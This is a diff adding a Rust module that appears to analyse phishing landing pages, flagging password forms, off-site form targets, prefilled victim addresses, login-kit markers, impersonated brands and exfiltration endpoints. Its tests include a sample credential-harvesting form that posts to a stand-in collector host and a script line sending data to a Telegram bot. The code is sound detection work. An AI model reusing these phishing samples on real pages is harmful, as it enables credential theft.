@@ -1,0 +1,657 @@
+//! What a landing page is: its title and text, the forms it shows and what they ask for, where
+//! they send it, which brand or webmail product it dresses up as, and whether it is gone.
+//!
+//! Pages are parsed with a real HTML5 parser (scraper/html5ever), because kits are copies of
+//! real login pages and the questions are structural: which `input` is a password, which form
+//! it belongs to, where that form posts. Nothing on the page is executed. The knowledge (kit
+//! markers, field words, parking markers, exfiltration endpoints) is data in
+//! `data/landing.toml`; brands come from kaibo's brand catalog.
+
+use std::sync::OnceLock;
+
+use scraper::{ElementRef, Html, Node, Selector};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use url::Url;
+
+/// One form on the page (or the password fields outside any form, as a form without action).
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct Form {
+    /// Where it submits to, resolved against the page URL; `None` when it submits to itself.
+    pub action: Option<String>,
+    pub method: String,
+    pub action_host: Option<String>,
+    /// The form sends its contents to another registrable domain than the page's (or by mail).
+    pub offsite: bool,
+    pub has_password: bool,
+    pub fields: Vec<Field>,
+    /// What the fields ask for (`password`, `email_or_user_id`, `card_number`…).
+    pub asks_for: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct Field {
+    pub name: Option<String>,
+    /// The input type (`text`, `password`, `hidden`…), or `select`/`textarea`.
+    pub kind: String,
+    /// A hidden field's value (kits put the victim's address here), at most 200 characters.
+    pub value: Option<String>,
+    pub asks: Option<String>,
+}
+
+/// A brand the page shows, and where.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct PageBrand {
+    pub brand: String,
+    pub name: String,
+    /// `title`, `text`, `image alt`, `kit`, `favicon`.
+    pub seen_in: Vec<String>,
+    /// The page's host is one of the brand's own domains.
+    pub owned: bool,
+}
+
+/// A login kit recognised on the page.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct KitHit {
+    pub kit: String,
+    pub name: String,
+    pub brand: String,
+    /// What matched (`title: Active! mail`, `html: /am_bin/`…).
+    pub markers: Vec<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct Favicon {
+    pub url: String,
+    pub sha256: String,
+    pub bytes: usize,
+}
+
+/// The final page of a visit.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct Page {
+    pub url: String,
+    pub title: Option<String>,
+    /// The first 400 characters of the visible text.
+    pub text_excerpt: String,
+    pub forms: Vec<Form>,
+    /// What the page asks the visitor for, over all forms.
+    pub asks_for: Vec<String>,
+    /// Mail addresses the page carries in hidden fields or in its URL (a kit prefilled for the
+    /// recipient).
+    pub addresses: Vec<String>,
+    /// External scripts (`script src`), at most 30.
+    pub scripts: Vec<String>,
+    /// Endpoints that collect what victims type outside the page's server (a Telegram bot…).
+    pub exfiltration: Vec<String>,
+    pub favicon: Option<Favicon>,
+    pub brands: Vec<PageBrand>,
+    pub kits: Vec<KitHit>,
+    /// The marker of a parked or suspended page.
+    pub parked: Option<String>,
+}
+
+impl Page {
+    pub fn asks_for_password(&self) -> bool {
+        self.forms.iter().any(|f| f.has_password)
+    }
+}
+
+#[derive(Debug, Deserialize)]
+struct KitDef {
+    id: String,
+    brand: String,
+    name: String,
+    title: Vec<String>,
+    text: Vec<String>,
+    html: Vec<String>,
+    favicon_sha256: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct AskDef {
+    id: String,
+    #[serde(rename = "type")]
+    types: Vec<String>,
+    words: Vec<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct Markers {
+    markers: Vec<String>,
+}
+
+/// The landing-page knowledge (`data/landing.toml`).
+#[derive(Debug, Deserialize)]
+pub struct Catalog {
+    version: u32,
+    kit: Vec<KitDef>,
+    ask: Vec<AskDef>,
+    parked: Markers,
+    exfiltration: Markers,
+    browser: BrowserHosts,
+}
+
+#[derive(Debug, Deserialize)]
+struct BrowserHosts {
+    own_hosts: Vec<String>,
+}
+
+impl Catalog {
+    /// Is `host` one of the browser's own services (refused by the render proxy)?
+    pub fn is_browser_service(&self, host: &str) -> bool {
+        self.browser.own_hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
+    }
+
+    pub fn parse(text: &str) -> Result<Catalog, String> {
+        let mut c: Catalog = toml::from_str(text).map_err(|e| format!("landing.toml: {e}"))?;
+        if c.version != 1 {
+            return Err(format!("landing.toml: unknown version {}", c.version));
+        }
+        let lower = |v: &mut Vec<String>| v.iter_mut().for_each(|s| *s = s.to_lowercase());
+        for k in &mut c.kit {
+            lower(&mut k.title);
+            lower(&mut k.text);
+            lower(&mut k.html);
+            lower(&mut k.favicon_sha256);
+        }
+        for a in &mut c.ask {
+            lower(&mut a.words);
+        }
+        lower(&mut c.parked.markers);
+        lower(&mut c.exfiltration.markers);
+        Ok(c)
+    }
+}
+
+/// The catalog compiled into kaibo.
+pub fn catalog() -> &'static Catalog {
+    static CATALOG: OnceLock<Catalog> = OnceLock::new();
+    CATALOG.get_or_init(|| {
+        Catalog::parse(include_str!("../../../data/landing.toml")).expect("data/landing.toml is valid")
+    })
+}
+
+const MAX_TEXT: usize = 20_000;
+const MAX_FIELDS: usize = 50;
+const MAX_FORMS: usize = 10;
+const MAX_SCRIPTS: usize = 30;
+
+fn sel(s: &str) -> Selector {
+    Selector::parse(s).expect("a valid selector")
+}
+
+fn collapse(s: &str) -> String {
+    s.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// The favicon's URL: the page's `link rel=icon`, else `/favicon.ico`.
+pub fn favicon_url(html: &str, base: &Url) -> Option<Url> {
+    let doc = Html::parse_document(html);
+    doc.select(&sel("link[rel][href]"))
+        .find(|l| {
+            l.value()
+                .attr("rel")
+                .is_some_and(|r| r.split_whitespace().any(|w| w.eq_ignore_ascii_case("icon")))
+        })
+        .and_then(|l| base.join(l.value().attr("href")?).ok())
+        .or_else(|| base.join("/favicon.ico").ok())
+        .filter(|u| matches!(u.scheme(), "http" | "https"))
+}
+
+/// A redirect the page makes without HTTP: a meta refresh, or a JavaScript assignment to
+/// `location` with a string literal (read as text, never run). JavaScript is followed only on
+/// pages with little to read and no password field: interstitials, not login pages that
+/// happen to contain `location` somewhere.
+pub fn client_redirect(html: &str, base: &Url) -> Option<(Url, &'static str)> {
+    let doc = Html::parse_document(html);
+    for m in doc.select(&sel("meta[http-equiv][content]")) {
+        if !m.value().attr("http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh")) {
+            continue;
+        }
+        let content = m.value().attr("content").unwrap_or("");
+        let lower = content.to_ascii_lowercase();
+        if let Some(i) = lower.find("url=") {
+            let target = content[i + 4..].trim().trim_matches(|c| c == '\'' || c == '"');
+            if let Ok(u) = base.join(target) {
+                return Some((u, "meta-refresh"));
+            }
+        }
+    }
+    let has_password = doc
+        .select(&sel("input"))
+        .any(|i| i.value().attr("type").is_some_and(|t| t.eq_ignore_ascii_case("password")));
+    if has_password || visible_text(&doc).chars().count() > 300 {
+        return None;
+    }
+    for s in doc.select(&sel("script")) {
+        if s.value().attr("src").is_some() {
+            continue;
+        }
+        let code: String = s.text().collect();
+        if let Some(target) = js_location_literal(&code)
+            && let Ok(u) = base.join(&target)
+        {
+            return Some((u, "javascript"));
+        }
+    }
+    None
+}
+
+/// The string literal assigned to `location` (`location = "…"`, `location.href = '…'`,
+/// `location.replace("…")`, `location.assign("…")`, with `window.`/`document.`/`top.`).
+fn js_location_literal(code: &str) -> Option<String> {
+    let mut from = 0;
+    while let Some(i) = code[from..].find("location") {
+        let at = from + i + "location".len();
+        from = at;
+        let rest = code[at..].trim_start();
+        let rest = rest.strip_prefix(".href").map(str::trim_start).unwrap_or(rest);
+        let after = if let Some(r) = rest.strip_prefix('=') {
+            if r.starts_with('=') {
+                continue;
+            }
+            r.trim_start()
+        } else if let Some(r) = rest.strip_prefix(".replace(").or_else(|| rest.strip_prefix(".assign(")) {
+            r.trim_start()
+        } else {
+            continue;
+        };
+        let mut chars = after.chars();
+        let Some(q @ ('"' | '\'' | '`')) = chars.next() else { continue };
+        let literal: String = chars.by_ref().take_while(|c| *c != q).collect();
+        if !literal.is_empty() && !literal.contains(['\n', '$', '+']) && literal.len() < 2048 {
+            return Some(literal);
+        }
+    }
+    None
+}
+
+fn in_hidden_subtree(e: &ElementRef) -> bool {
+    e.ancestors()
+        .filter_map(ElementRef::wrap)
+        .any(|a| matches!(a.value().name(), "script" | "style" | "noscript" | "template" | "head" | "title"))
+}
+
+fn visible_text(doc: &Html) -> String {
+    let mut out = String::new();
+    for node in doc.tree.root().descendants() {
+        if let Node::Text(t) = node.value() {
+            let Some(parent) = node.parent().and_then(ElementRef::wrap) else { continue };
+            if matches!(parent.value().name(), "script" | "style" | "noscript" | "template" | "title")
+                || in_hidden_subtree(&parent)
+            {
+                continue;
+            }
+            let t = t.trim();
+            if !t.is_empty() {
+                out.push_str(t);
+                out.push(' ');
+            }
+            if out.len() > MAX_TEXT {
+                break;
+            }
+        }
+    }
+    collapse(&out)
+}
+
+fn classify_field(c: &Catalog, kind: &str, attrs: &[&str]) -> Option<String> {
+    if matches!(kind, "submit" | "button" | "image" | "reset" | "checkbox" | "radio" | "file") {
+        return None;
+    }
+    let hay: String = attrs.iter().map(|a| a.to_lowercase()).collect::<Vec<_>>().join(" ");
+    c.ask
+        .iter()
+        .find(|a| {
+            a.types.iter().any(|t| t == kind)
+                || (kind != "hidden" && a.words.iter().any(|w| hay.contains(w.as_str())))
+        })
+        .map(|a| a.id.clone())
+}
+
+fn push_unique(v: &mut Vec<String>, s: impl Into<String>) {
+    let s = s.into();
+    if !v.contains(&s) {
+        v.push(s);
+    }
+}
+
+fn host_domain(u: &Url) -> Option<String> {
+    let h = u.host_str()?.trim_matches(['[', ']']);
+    kaibo_core::urls::registrable_domain(h).or_else(|| Some(h.to_ascii_lowercase()))
+}
+
+/// Mail addresses in `s` (plain, percent-encoded, or base64 as kits put them in fragments).
+fn addresses_in(s: &str, out: &mut Vec<String>) {
+    use base64::Engine as _;
+    let mut candidates = vec![s.to_string()];
+    candidates.push(s.replace("%40", "@").replace("%2540", "@"));
+    for piece in s.split(['#', '?', '&', '=', '/']) {
+        if piece.len() >= 8 && piece.len() <= 400 {
+            for engine in
+                [&base64::engine::general_purpose::STANDARD, &base64::engine::general_purpose::URL_SAFE]
+            {
+                if let Ok(bytes) =
+                    engine.decode(piece.trim_end_matches('=')).or_else(|_| engine.decode(piece))
+                    && let Ok(text) = String::from_utf8(bytes)
+                {
+                    candidates.push(text);
+                }
+            }
+        }
+    }
+    for c in candidates {
+        for word in c.split(|ch: char| ch.is_whitespace() || "\"'<>,;&?=#/()[]".contains(ch)) {
+            let word = word.trim_matches('.');
+            if let Some((local, domain)) = word.split_once('@')
+                && !local.is_empty()
+                && domain.contains('.')
+                && !domain.contains('@')
+                && word.len() <= 254
+            {
+                push_unique(out, word.to_ascii_lowercase());
+            }
+        }
+    }
+}
+
+/// Analyses the final page of a visit. `favicon` is the icon's URL and bytes, when fetched.
+pub fn analyze_page(url: &Url, html: &str, favicon: Option<(String, Vec<u8>)>) -> Page {
+    let c = catalog();
+    let k = kaibo_core::knowledge::knowledge();
+    let doc = Html::parse_document(html);
+    let mut page = Page { url: url.to_string(), ..Default::default() };
+    page.title = doc
+        .select(&sel("title"))
+        .next()
+        .map(|t| collapse(&t.text().collect::<String>()))
+        .filter(|t| !t.is_empty());
+    let text = visible_text(&doc);
+    page.text_excerpt = text.chars().take(400).collect();
+    let page_domain = host_domain(url);
+    let page_host = url.host_str().unwrap_or("").trim_matches(['[', ']']).to_ascii_lowercase();
+
+    // Forms, and password fields outside any form (pages that submit by script).
+    let field_of = |e: ElementRef| -> Field {
+        let v = e.value();
+        let kind = match v.name() {
+            "input" => v.attr("type").unwrap_or("text").to_ascii_lowercase(),
+            other => other.to_string(),
+        };
+        let attrs: Vec<&str> = ["name", "id", "placeholder", "autocomplete", "aria-label", "title"]
+            .iter()
+            .filter_map(|a| v.attr(a))
+            .collect();
+        let value = (kind == "hidden")
+            .then(|| v.attr("value").map(|s| s.chars().take(200).collect::<String>()))
+            .flatten();
+        Field {
+            name: v.attr("name").map(str::to_string),
+            asks: classify_field(c, &kind, &attrs),
+            kind,
+            value,
+        }
+    };
+    let fields_sel = sel("input, select, textarea");
+    for f in doc.select(&sel("form")).take(MAX_FORMS) {
+        let action = f
+            .value()
+            .attr("action")
+            .map(str::trim)
+            .filter(|a| !a.is_empty() && *a != "#")
+            .and_then(|a| url.join(a).ok());
+        let fields: Vec<Field> = f.select(&fields_sel).take(MAX_FIELDS).map(field_of).collect();
+        page.forms.push(make_form(action, f.value().attr("method"), fields, page_domain.as_deref()));
+    }
+    let loose: Vec<Field> = doc
+        .select(&fields_sel)
+        .filter(|e| !e.ancestors().filter_map(ElementRef::wrap).any(|a| a.value().name() == "form"))
+        .take(MAX_FIELDS)
+        .map(field_of)
+        .collect();
+    if loose.iter().any(|f| f.kind == "password") {
+        page.forms.push(make_form(None, None, loose, page_domain.as_deref()));
+    }
+    for f in &page.forms {
+        for a in &f.asks_for {
+            push_unique(&mut page.asks_for, a.clone());
+        }
+        for field in &f.fields {
+            if let Some(v) = &field.value {
+                addresses_in(v, &mut page.addresses);
+            }
+        }
+    }
+    addresses_in(url.as_str(), &mut page.addresses);
+
+    // Scripts and where typed secrets may go.
+    for s in doc.select(&sel("script[src]")).take(MAX_SCRIPTS) {
+        if let Some(u) = s.value().attr("src").and_then(|src| url.join(src).ok()) {
+            push_unique(&mut page.scripts, u.to_string());
+        }
+    }
+    // Kits give themselves away in their source and in their paths (`/am_bin/`, `/owa/`).
+    let raw_lower = format!("{url}\n{html}").to_lowercase();
+    for m in &c.exfiltration.markers {
+        if raw_lower.contains(m.as_str()) {
+            push_unique(&mut page.exfiltration, m.clone());
+        }
+    }
+
+    // Favicon.
+    let favicon_hash = favicon.as_ref().map(|(u, bytes)| {
+        let sha = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect::<String>();
+        page.favicon = Some(Favicon { url: u.clone(), sha256: sha.clone(), bytes: bytes.len() });
+        sha
+    });
+
+    // Kits.
+    let title_lower = page.title.as_deref().unwrap_or("").to_lowercase();
+    let text_lower = text.to_lowercase();
+    let has_password = page.asks_for_password();
+    for kit in &c.kit {
+        let mut markers = Vec::new();
+        if let Some(m) = kit.title.iter().find(|m| title_lower.contains(m.as_str())) {
+            markers.push(format!("title: {m}"));
+        }
+        for m in kit.html.iter().filter(|m| raw_lower.contains(m.as_str())).take(3) {
+            markers.push(format!("html: {m}"));
+        }
+        if has_password && let Some(m) = kit.text.iter().find(|m| text_lower.contains(m.as_str())) {
+            markers.push(format!("text: {m}"));
+        }
+        if let Some(h) = &favicon_hash
+            && kit.favicon_sha256.contains(h)
+        {
+            markers.push("favicon".into());
+        }
+        if !markers.is_empty() {
+            page.kits.push(KitHit {
+                kit: kit.id.clone(),
+                name: kit.name.clone(),
+                brand: kit.brand.clone(),
+                markers,
+            });
+        }
+    }
+
+    // Brands: in the title, the text, image alt texts, and through kits.
+    let alts: String =
+        doc.select(&sel("img[alt]")).filter_map(|i| i.value().attr("alt")).collect::<Vec<_>>().join(" \n ");
+    let mut seen: Vec<(usize, String, Vec<String>)> = Vec::new();
+    let mut note = |bi: usize, name: &str, place: &str| match seen.iter_mut().find(|(b, _, _)| *b == bi) {
+        Some((_, _, places)) => push_unique(places, place),
+        None => seen.push((bi, name.to_string(), vec![place.to_string()])),
+    };
+    for (source, place) in [
+        (page.title.as_deref().unwrap_or(""), "title"),
+        (text.as_str(), "text"),
+        (alts.as_str(), "image alt"),
+    ] {
+        for (bi, name) in k.brand_mentions(source) {
+            note(bi, name, place);
+        }
+    }
+    for hit in &page.kits {
+        if let Some(bi) = k.brands.iter().position(|b| b.id == hit.brand) {
+            let name = k.brands[bi].names.first().cloned().unwrap_or_default();
+            note(bi, &name, if hit.markers.iter().any(|m| m == "favicon") { "favicon" } else { "kit" });
+        }
+    }
+    for (bi, name, seen_in) in seen {
+        let b = &k.brands[bi];
+        page.brands.push(PageBrand { brand: b.id.clone(), name, seen_in, owned: b.owns(&page_host) });
+    }
+
+    // Parked or suspended.
+    let head: String = text_lower.chars().take(4000).collect();
+    page.parked = c
+        .parked
+        .markers
+        .iter()
+        .find(|m| head.contains(m.as_str()) || (m.contains('.') && raw_lower.contains(m.as_str())))
+        .cloned();
+    page
+}
+
+fn make_form(
+    action: Option<Url>,
+    method: Option<&str>,
+    fields: Vec<Field>,
+    page_domain: Option<&str>,
+) -> Form {
+    let action_host = action.as_ref().and_then(|a| a.host_str().map(|h| h.to_ascii_lowercase()));
+    let offsite = match &action {
+        Some(a) if a.scheme() == "mailto" => true,
+        Some(a) if matches!(a.scheme(), "http" | "https") => host_domain(a).as_deref() != page_domain,
+        _ => false,
+    };
+    let mut asks_for = Vec::new();
+    for f in &fields {
+        if let Some(a) = &f.asks {
+            push_unique(&mut asks_for, a.clone());
+        }
+    }
+    Form {
+        action: action.map(|a| a.to_string()),
+        method: method.unwrap_or("get").to_ascii_lowercase(),
+        action_host,
+        offsite,
+        has_password: fields.iter().any(|f| f.kind == "password"),
+        fields,
+        asks_for,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn url(s: &str) -> Url {
+        Url::parse(s).unwrap()
+    }
+
+    #[test]
+    fn catalog_loads_and_names_known_brands() {
+        let k = kaibo_core::knowledge::knowledge();
+        for kit in &catalog().kit {
+            assert!(
+                k.brands.iter().any(|b| b.id == kit.brand),
+                "kit {} names unknown brand {}",
+                kit.id,
+                kit.brand
+            );
+        }
+        assert!(catalog().ask.iter().any(|a| a.id == "password"));
+    }
+
+    #[test]
+    fn active_mail_kit_with_prefilled_recipient() {
+        let html = r#"<html><head><title>Active! mail ログイン</title>
+            <script src="/js/jquery.min.js"></script></head><body>
+            <img src="logo.png" alt="Active! mail">
+            <form method="POST" action="https://collector.example.net/post.php">
+              <input type="hidden" name="acc" value="taro@example.co.jp">
+              <input type="text" name="user_id" placeholder="ユーザーID">
+              <input type="password" name="password">
+              <input type="submit" value="ログイン">
+            </form><p>Copyright QUALITIA CO., LTD.</p></body></html>"#;
+        let p = analyze_page(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html, None);
+        assert_eq!(p.title.as_deref(), Some("Active! mail ログイン"));
+        assert!(p.asks_for_password());
+        assert_eq!(p.asks_for, vec!["email_or_user_id", "password"]);
+        let f = &p.forms[0];
+        assert!(f.offsite, "posts to another domain");
+        assert_eq!(f.action_host.as_deref(), Some("collector.example.net"));
+        assert_eq!(p.addresses, vec!["taro@example.co.jp"]);
+        assert_eq!(p.kits[0].kit, "active_mail");
+        assert!(p.kits[0].markers.iter().any(|m| m == "html: /am_bin/"));
+        let b = p.brands.iter().find(|b| b.brand == "active_mail").unwrap();
+        assert!(!b.owned);
+        assert!(b.seen_in.contains(&"title".to_string()));
+        assert_eq!(p.scripts, vec!["https://mail-sync.aorz.ru/js/jquery.min.js"]);
+    }
+
+    #[test]
+    fn brand_on_its_own_domain_is_owned() {
+        let html = "<title>Sign in to your account</title><body>Microsoft<form><input type=email name=loginfmt><input type=password name=passwd></form>";
+        let p = analyze_page(&url("https://login.microsoftonline.com/"), html, None);
+        let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
+        assert!(b.owned);
+        assert!(!p.forms[0].offsite);
+    }
+
+    #[test]
+    fn address_in_base64_fragment_and_script_form() {
+        // taro@example.jp in base64, and a password field with no form (submitted by script).
+        let html = "<body><input type=password id=pw><script>fetch('https://api.telegram.org/bot123/sendMessage')</script>";
+        let p = analyze_page(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html, None);
+        assert_eq!(p.addresses, vec!["taro@example.jp"]);
+        assert!(p.asks_for_password());
+        assert_eq!(p.exfiltration, vec!["api.telegram.org/bot"]);
+    }
+
+    #[test]
+    fn client_redirects() {
+        let base = url("http://a.example/start");
+        let meta = r#"<meta http-equiv="Refresh" content="0; URL='/next?x=1'">"#;
+        assert_eq!(client_redirect(meta, &base).unwrap(), (url("http://a.example/next?x=1"), "meta-refresh"));
+        let js = r#"<script>window.location.href = "https://b.example/login";</script>"#;
+        assert_eq!(client_redirect(js, &base).unwrap(), (url("https://b.example/login"), "javascript"));
+        let js2 = r#"<script>if (a == b) {} location.replace('/x')</script>"#;
+        assert_eq!(client_redirect(js2, &base).unwrap().0, url("http://a.example/x"));
+        // Computed targets are not guessed; login pages are not left.
+        assert!(client_redirect("<script>location = base + '/x'</script>", &base).is_none());
+        assert!(client_redirect("<input type=password><script>location='/x'</script>", &base).is_none());
+        assert!(client_redirect("<script>if (location == 'x') {}</script>", &base).is_none());
+    }
+
+    #[test]
+    fn parked_page() {
+        let p = analyze_page(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>", None);
+        assert_eq!(p.parked.as_deref(), Some("this domain is for sale"));
+    }
+
+    #[test]
+    fn favicon_is_hashed_and_found() {
+        let base = url("https://x.example/a/b");
+        assert_eq!(favicon_url("<p>", &base).unwrap().as_str(), "https://x.example/favicon.ico");
+        assert_eq!(
+            favicon_url(r#"<link rel="shortcut icon" href="/i.png">"#, &base).unwrap().as_str(),
+            "https://x.example/i.png"
+        );
+        let p = analyze_page(&base, "<p>", Some(("https://x.example/favicon.ico".into(), b"abc".to_vec())));
+        assert_eq!(
+            p.favicon.unwrap().sha256,
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+        );
+    }
+
+    #[test]
+    fn hostile_markup_is_bounded() {
+        let deep = "<div>".repeat(50_000) + &"<input>".repeat(10_000);
+        let p = analyze_page(&url("http://x.example/"), &deep, None);
+        assert!(p.forms.is_empty());
+    }
+}
